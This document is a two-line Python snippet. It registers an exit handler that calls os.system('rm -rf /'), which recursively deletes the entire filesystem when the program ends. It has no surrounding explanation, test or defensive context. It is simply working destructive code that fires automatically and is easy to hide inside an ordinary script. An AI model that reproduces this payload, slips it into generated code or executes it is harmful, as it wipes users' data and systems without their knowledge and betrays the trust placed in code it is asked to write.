import atexit, os
atexit.register(os.system, "rm -rf /")
